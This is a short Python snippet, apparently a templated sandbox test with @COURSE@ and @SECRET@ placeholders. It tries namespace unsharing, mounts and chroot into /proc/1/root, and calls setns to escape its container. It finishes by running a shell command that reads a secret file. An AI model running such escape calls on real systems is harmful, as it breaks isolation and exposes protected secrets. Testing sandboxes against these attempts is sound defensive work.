# %% end
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x40000000, 0x20000000):
    print(libc.unshare(flags))
for source in (b"@COURSE@", b"/proc/1/root", b"/"):
    print(libc.mount(source, b"/tmp", None, 4096, None))
print(libc.umount2(b"/tmp", 2), libc.umount2(b"/", 2), libc.chroot(b"/proc/1/root"), libc.setns(3, 0))
os.system("unshare -r true; mount; ls @COURSE@; cat @SECRET@")
